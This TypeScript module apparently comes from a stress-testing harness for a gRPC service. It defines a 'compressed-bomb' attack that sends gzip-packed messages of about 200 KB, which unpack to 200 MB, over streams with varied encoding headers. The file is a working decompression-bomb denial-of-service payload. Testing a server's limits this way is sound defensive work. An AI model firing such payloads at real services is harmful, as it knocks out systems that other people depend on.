import { gzipSync } from "node:zlib";
import { GrpcConnection } from "../wire/grpc-connection.js";
import { type Attack, repeat } from "./attack.js";

const bomb = gzipSync(Buffer.alloc(200 * 1024 * 1024));
const encodings = ["gzip", "deflate", "br", "identity"] as const;

/** Small messages that are large when they are unpacked. */
export const compressedBomb: Attack = {
  name: "compressed-bomb",
  about: "messages of 200 KB that unpack to 200 MB, in every encoding there is",
  run: (target) =>
    repeat(target, 4, async () => {
      const connection = new GrpcConnection(target);
      const path = target.random.chance(0.5) ? undefined : "/aldis.v1.RealtimeService/SendPeerMessage";
      const stream = connection.stream(path, { "grpc-encoding": target.random.pick(encodings) });
      // A fifth of it passes the limit on what comes over the wire.
      stream?.send(bomb.subarray(0, target.random.chance(0.5) ? 100_000 : bomb.length), 1);
      stream?.end();
      await stream?.ended();
      connection.leave();
    }),
};
